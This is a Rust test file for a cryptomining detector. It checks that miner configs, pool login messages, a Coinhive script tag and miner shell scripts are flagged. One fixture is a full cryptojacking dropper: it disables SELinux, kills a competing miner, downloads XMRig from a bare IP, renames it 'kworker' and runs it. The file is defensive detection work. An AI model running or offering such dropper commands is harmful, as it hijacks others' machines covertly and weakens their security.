use ciel_mining::{
    SignalKind as Kind, Strength, Verdict, assess, signals_in_config, signals_in_text,
};

use crate::has;

const XMR: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

const XMRIG: &str = r#"{
    "api": {"id": null, "worker-id": null},
    "http": {"enabled": false, "host": "127.0.0.1", "port": 0},
    "autosave": true,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},
    "opencl": false, "cuda": false,
    "donate-level": 1,
    "pools": [{"url": "10.0.0.9:443", "user": "someone", "pass": "x", "rig-id": null, "keepalive": true, "tls": true}]
}"#;

fn check(text: &str, expected: Verdict) {
    let signals = signals_in_text(text);
    assert_eq!(assess(&signals), expected, "{text}\n{signals:#?}");
}

#[test]
fn configuration_files_of_miners() {
    check(XMRIG, Verdict::Mining);
    assert!(has(
        &signals_in_config(XMRIG),
        Kind::MinerConfig,
        Strength::Strong
    ));
    check(
        "{\"donate-level\": 0, \"pools\": [{\"url\": \"a:1\", \"user\": \"b\"}]}",
        Verdict::Mining,
    );
    check(
        "donate-level: 1\npools:\n- url: a:1\n  user: b\n",
        Verdict::Mining,
    );
    check(
        "\"pool_list\" : [ {\"pool_address\" : \"pool.x.y:3333\", \"wallet_address\" : \"w\", \"rig_id\" : \"\", \"pool_password\" : \"\", \"use_nicehash\" : false, \"pool_weight\" : 1 } ],\n\"currency\" : \"monero\",",
        Verdict::Mining,
    );
    check(
        &format!("[Randomx]\nwallet = {XMR}\nrigName = a\npool1 = xmr-eu1.nanopool.org:14433\n"),
        Verdict::Mining,
    );
    check(
        "{\"method\":\"login\",\"params\":{\"login\":\"x\",\"pass\":\"x\",\"agent\":\"XMRig/6.16\"}}",
        Verdict::Mining,
    );
    check(
        "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}",
        Verdict::Mining,
    );
}

#[test]
fn scripts_of_miners() {
    check(
        "#!/bin/bash\nsetenforce 0\npkill -f kinsing\ncd /tmp\nwget http://45.9.148.35/xmrig.tar.gz\ntar xf xmrig.tar.gz\nmv xmrig kworker\n./kworker -o pool.hashvault.pro:80 -u w -p x\n",
        Verdict::Mining,
    );
    check(
        "apt update\n./xmrig --url=$POOL --user=$WALLET\n",
        Verdict::Mining,
    );
    check(
        "curl -L -o /tmp/x https://github.com/xmrig/xmrig/releases/download/v6.21.0/x.tar.gz\n",
        Verdict::Mining,
    );
    check(
        "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script><script>var m = new CoinHive.Anonymous('k');m.start()</script>",
        Verdict::Suspicious,
    );
}

#[test]
fn spans_are_places_in_the_text() {
    for signal in signals_in_text(XMRIG) {
        assert!(XMRIG.get(signal.span.clone()).is_some(), "{signal:?}");
    }
}
